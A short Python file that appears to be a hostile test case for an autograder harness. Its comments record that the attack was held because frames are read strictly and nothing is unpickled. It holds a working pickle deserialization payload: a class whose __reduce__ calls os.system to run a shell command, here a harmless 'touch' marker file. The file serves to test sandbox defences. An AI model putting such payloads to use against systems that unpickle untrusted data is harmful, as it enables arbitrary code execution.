# attack: a pickle that runs a command
# held by: frames are read totally, and nothing is unpickled
# outcome: crashed
import os, struct

import pickle
class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/autograder-hostile-pwned",))

def frame(body):
    os.write(3, struct.pack("<BI", 19, len(body)) + body)
def go():
    pickle.dump(Bomb(), os.fdopen(3, "wb", closefd=False))
    os._exit(0)
